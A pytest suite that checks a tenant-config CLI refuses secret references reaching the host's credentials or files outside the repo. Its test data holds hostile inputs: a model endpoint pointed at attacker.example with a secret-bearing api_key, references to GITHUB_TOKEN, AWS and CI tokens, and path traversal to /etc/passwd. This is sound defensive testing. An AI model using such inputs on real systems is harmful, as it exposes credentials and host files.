"""Attacks through the tenant config: secret references that reach the apply host's own secrets
or files, and YAML linked in from outside the repo. All through the real CLI.

- `${env:NAME}` naming Cockpit's settings or a CI runner's token (any letter case), or outside
  the platform's `COCKPIT_SECRET_ENV_PREFIX`: a located error at validate and plan, and refused
  again when a saved plan is applied (nothing written); the value is never shown.
- `${file:PATH}` through a symlink, outside the repo (unless `COCKPIT_SECRET_FILE_DIRS` allows
  it), or not a regular file of at most 64 KiB (FIFO, /dev/zero, a directory, a huge file):
  refused, and `plan` does not hang on a FIFO.
- A YAML file or directory symlinked from outside the tenant repo: a located error naming the
  link and its target; a link that stays inside is loaded, once.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from cockpit.cli import main
from cockpit.config.secrets import UnresolvedSecret, resolve_reference
from harness.cockpit import Cockpit, snapshot as full_snapshot

CANARY = "canary-host-secret-7777"

TENANT = """\
apiVersion: cockpit/v1
kind: Account
name: acme
email_domain: acme.com
allocation: {{monthly_credits: 1000, credit_factor: 1.5}}
admins: [{{email: admin@acme.com}}]
---
apiVersion: cockpit/v1
kind: Model
name: gpt-4o
litellm: {{model: openai/gpt-4o, api_base: "https://attacker.example/v1", api_key: "{ref}"}}
pricing: {{input_per_million: 2.5, output_per_million: 10}}
"""
# Where the api_key value starts in TENANT: line 11, after `litellm: {...api_key: `.
API_KEY_AT = "tenant/tenant.yaml:11:83"

OUTSIDE_DOC = """\
apiVersion: cockpit/v1
kind: Account
name: evil
email_domain: evil.example
allocation: {monthly_credits: 1, credit_factor: 1}
admins: [{email: mallory@evil.example}]
"""


def snapshot(url: str) -> dict[str, list[tuple[str, ...]]]:
    """Every row but `apply_runs`: a refused apply records its failed run, and nothing else."""
    rows = full_snapshot(url)
    rows.pop("apply_runs")
    return rows


def validate(tenant: Path) -> Result:
    result = CliRunner().invoke(main, ["validate", str(tenant)])
    assert not (result.exception and not isinstance(result.exception, SystemExit)), result.exception
    assert "Traceback" not in result.output
    return result


@pytest.fixture
def tenant(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    for name in ("DATABASE_URL", "ZITADEL_CLIENT_SECRET", "cockpit_secret_key", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "LITELLM_MASTER_KEY", "CI_JOB_TOKEN"):
        monkeypatch.setenv(name, CANARY)
    monkeypatch.delenv("COCKPIT_SECRET_ENV_PREFIX", raising=False)
    monkeypatch.delenv("COCKPIT_SECRET_FILE_DIRS", raising=False)
    root = tmp_path / "tenant"
    root.mkdir()
    return root


def write(tenant: Path, ref: str) -> None:
    (tenant / "tenant.yaml").write_text(TENANT.format(ref=ref))


# -- ${env:…} -------------------------------------------------------------------------------------

RESERVED = [
    ("DATABASE_URL", "DATABASE_URL"),
    ("database_Url", "DATABASE_URL"),
    ("ZITADEL_CLIENT_SECRET", "ZITADEL_*"),
    ("cockpit_secret_key", "COCKPIT_*"),
    ("Cockpit_Secret_Key", "COCKPIT_*"),
    ("LITELLM_MASTER_KEY", "LITELLM_*"),
    ("GITHUB_TOKEN", "GITHUB_TOKEN"),
    ("CI_JOB_TOKEN", "CI_JOB_TOKEN"),
    ("AWS_SECRET_ACCESS_KEY", "AWS_*"),
    ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_*"),
]


@pytest.mark.parametrize(("name", "family"), RESERVED)
def test_env_reference_to_host_settings_is_refused_at_validate(tenant: Path, name: str, family: str) -> None:
    write(tenant, f"${{env:{name}}}")
    result = validate(tenant)
    assert result.exit_code == 1, result.output
    expected = f"{API_KEY_AT}: error: 'api_key' refers to ${{env:{name}}}, a setting of the host that runs cockpit ({family})"
    assert expected in result.output, result.output
    assert CANARY not in result.output


def test_env_reference_to_host_settings_is_refused_at_plan(migrated_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cockpit = Cockpit(migrated_url, tmp_path, monkeypatch)
    monkeypatch.setenv("ZITADEL_CLIENT_SECRET", CANARY)
    write(cockpit.tenant, "${env:ZITADEL_CLIENT_SECRET}")
    before = snapshot(cockpit.url)
    for result in (cockpit.plan(), cockpit.apply()):
        assert result.exit_code == 1, result.output
        assert f"{API_KEY_AT}: error: 'api_key' refers to ${{env:ZITADEL_CLIENT_SECRET}}" in result.output
        assert CANARY not in result.output
    assert snapshot(cockpit.url) == before


def test_env_prefix_setting_restricts_references(tenant: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COCKPIT_SECRET_ENV_PREFIX", "TENANT_,ACME_")
    write(tenant, "${env:OPENAI_API_KEY}")
    outside = validate(tenant)
    assert outside.exit_code == 1
    assert f"{API_KEY_AT}: error: 'api_key' refers to ${{env:OPENAI_API_KEY}}, outside what COCKPIT_SECRET_ENV_PREFIX allows (${{env:TENANT_…}}, ${{env:ACME_…}})" in outside.output
    write(tenant, "${env:tenant_openai_key}")  # environment names are case-sensitive
    assert "outside what COCKPIT_SECRET_ENV_PREFIX allows" in validate(tenant).output
    write(tenant, "${env:TENANT_OPENAI_KEY}")
    assert validate(tenant).exit_code == 0
    # The prefix never re-allows a reserved name.
    monkeypatch.setenv("COCKPIT_SECRET_ENV_PREFIX", "COCKPIT_")
    write(tenant, "${env:COCKPIT_SECRET_KEY}")
    assert "a setting of the host that runs cockpit (COCKPIT_*)" in validate(tenant).output


def test_env_prefix_is_enforced_again_when_a_saved_plan_is_applied(migrated_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A plan saved before the platform set the prefix still cannot read outside it."""
    cockpit = Cockpit(migrated_url, tmp_path, monkeypatch)
    write(cockpit.tenant, "${env:TEST_OPENAI_KEY}")
    assert cockpit.plan("--out", "plan.json").exit_code == 2
    monkeypatch.setenv("COCKPIT_SECRET_ENV_PREFIX", "TENANT_")
    before = snapshot(cockpit.url)
    result = cockpit.run("apply", "plan.json")
    assert result.exit_code == 1, result.output
    assert "refers to ${env:TEST_OPENAI_KEY}, outside what COCKPIT_SECRET_ENV_PREFIX allows" in result.output
    assert "sk-test-canary" not in result.output
    assert snapshot(cockpit.url) == before


def test_resolver_refuses_reserved_names_on_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever calls the resolver (plan, apply, a saved plan), a host setting is not read."""
    monkeypatch.setenv("ZITADEL_CLIENT_SECRET", CANARY)
    for reference in ("${env:ZITADEL_CLIENT_SECRET}", "${env:zitadel_client_secret}", "${env:DATABASE_URL}"):
        with pytest.raises(UnresolvedSecret, match="a setting of the host that runs cockpit") as caught:
            resolve_reference(reference, tmp_path, dict(os.environ))
        assert CANARY not in str(caught.value)


# -- ${file:…} ------------------------------------------------------------------------------------

def test_file_references_stay_in_the_repo_or_an_allowed_directory(tenant: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "stolen").write_text(CANARY)
    (tenant / "secrets").mkdir()
    (tenant / "secrets" / "real").write_text("sk-in-repo")
    (tenant / "link-out").symlink_to(outside / "stolen")
    (tenant / "link-in").symlink_to(tenant / "secrets" / "real")
    (tenant / "dir-out").symlink_to(outside)
    cases = {
        "${file:../../../etc/passwd}": "outside the tenant repo",
        "${file:../outside/stolen}": "outside the tenant repo",
        "${file:/etc/passwd}": "refers to an absolute path",
        "${file:link-out}": f"goes through a symlink to {outside / 'stolen'}",
        "${file:dir-out/stolen}": f"goes through a symlink to {outside / 'stolen'}",
        "${file:link-in}": "goes through a symlink to",
    }
    for ref, message in cases.items():
        write(tenant, ref)
        result = validate(tenant)
        assert result.exit_code == 1, (ref, result.output)
        assert f"{API_KEY_AT}: error: 'api_key' refers to" in result.output and message in result.output, (ref, result.output)
        assert CANARY not in result.output
    write(tenant, "${file:secrets/real}")
    inside = validate(tenant)
    assert "'api_key'" not in inside.output
    # A directory linked from outside is refused as a YAML directory would be ...
    assert f"tenant/dir-out: error: symlinked directory points outside the tenant repo, to {outside}" in inside.output
    # ... unless the platform allows it as a mounted secrets directory: then absolute paths
    # and links into it are fine too.
    monkeypatch.setenv("COCKPIT_SECRET_FILE_DIRS", str(outside))
    for ref in (f"${{file:{outside / 'stolen'}}}", "${file:link-out}", "${file:dir-out/stolen}"):
        write(tenant, ref)
        assert validate(tenant).exit_code == 0, (ref, validate(tenant).output)
    write(tenant, "${file:/etc/passwd}")
    assert "refers to an absolute path" in validate(tenant).output


NOT_REGULAR = {
    "fifo": ("a FIFO (named pipe), not a regular file", lambda path: os.mkfifo(path)),
    "directory": ("a directory, not a regular file", lambda path: path.mkdir()),
    "huge": ("larger than 64 KiB", lambda path: path.write_bytes(b"k" * (64 * 1024 + 1))),
}


@pytest.mark.parametrize("kind", NOT_REGULAR)
def test_secret_file_that_is_not_a_small_regular_file_is_refused_at_validate(tenant: Path, kind: str) -> None:
    message, make = NOT_REGULAR[kind]
    make(tenant / "key")
    write(tenant, "${file:key}")
    result = validate(tenant)
    assert result.exit_code == 1, result.output
    assert f"{API_KEY_AT}: error: 'api_key' secret file key is {message}" in result.output, result.output


def test_dev_zero_in_an_allowed_directory_is_refused(tenant: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COCKPIT_SECRET_FILE_DIRS", "/dev")
    write(tenant, "${file:/dev/zero}")
    result = validate(tenant)
    assert result.exit_code == 1
    assert f"{API_KEY_AT}: error: 'api_key' secret file /dev/zero is a character device, not a regular file" in result.output
    with pytest.raises(UnresolvedSecret, match="character device"):
        resolve_reference("${file:/dev/zero}", tenant, {})


def test_plan_does_not_hang_on_a_fifo_secret(migrated_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In a process of its own with a deadline: old code blocked in open() forever."""
    cockpit = Cockpit(migrated_url, tmp_path, monkeypatch)
    os.mkfifo(cockpit.tenant / "key")
    write(cockpit.tenant, "${file:key}")
    command = [sys.executable, "-c", "from cockpit.cli import main; main()", "plan", str(cockpit.tenant)]
    try:
        result = subprocess.run(command, cwd=cockpit.root, env=dict(os.environ), capture_output=True, text=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("cockpit plan hung on a FIFO named as a ${file:} secret")
    assert result.returncode == 1, result.stderr
    assert f"{API_KEY_AT}: error: 'api_key' secret file key is a FIFO (named pipe)" in result.stderr


def test_secret_swapped_for_a_symlink_after_planning_is_refused_at_apply(migrated_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The resolver checks again: a saved plan cannot be made to read a file outside."""
    cockpit = Cockpit(migrated_url, tmp_path, monkeypatch)
    write(cockpit.tenant, "${file:github.key}")
    assert cockpit.plan("--out", "plan.json").exit_code == 2
    (tmp_path / "stolen").write_text(CANARY)
    (cockpit.tenant / "github.key").unlink()
    (cockpit.tenant / "github.key").symlink_to(tmp_path / "stolen")
    before = snapshot(cockpit.url)
    result = cockpit.run("apply", "plan.json")
    assert result.exit_code == 1, result.output
    assert "refers to ${file:github.key}, which goes through a symlink to" in result.output
    assert CANARY not in result.output
    assert snapshot(cockpit.url) == before


# -- YAML symlinked into the repo -----------------------------------------------------------------

def test_yaml_file_symlinked_from_outside_is_refused(tenant: Path, tmp_path: Path) -> None:
    write(tenant, "${env:TENANT_KEY}")
    (tmp_path / "evil.yaml").write_text(OUTSIDE_DOC)
    (tenant / "evil.yaml").symlink_to(tmp_path / "evil.yaml")
    result = validate(tenant)
    assert result.exit_code == 1, result.output
    assert f"tenant/evil.yaml:1:1: error: symlinked file points outside the tenant repo, to {tmp_path / 'evil.yaml'}" in result.output


def test_yaml_directory_symlinked_from_outside_is_refused(tenant: Path, tmp_path: Path) -> None:
    write(tenant, "${env:TENANT_KEY}")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "evil.yml").write_text(OUTSIDE_DOC)
    (tenant / "more").symlink_to(elsewhere)
    (tenant / ".hidden").symlink_to(elsewhere)  # hidden directories are skipped, links or not
    result = validate(tenant)
    assert result.exit_code == 1, result.output
    assert f"tenant/more: error: symlinked directory points outside the tenant repo, to {elsewhere}" in result.output
    assert ".hidden" not in result.output and "evil.example" not in result.output


def test_symlinks_inside_the_repo_are_loaded_once(tenant: Path) -> None:
    write(tenant, "${env:TENANT_KEY}")
    (tenant / "shared").mkdir()
    (tenant / "shared" / "models.yaml").write_text(TENANT.split("---\n")[1].format(ref="${env:TENANT_KEY}").replace("gpt-4o", "gpt-4o-mini"))
    (tenant / "current.yaml").symlink_to(tenant / "shared" / "models.yaml")
    (tenant / "again").symlink_to(tenant / "shared")
    (tenant / "shared" / "loop").symlink_to(tenant)
    result = CliRunner().invoke(main, ["validate", str(tenant), "--format", "json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == []
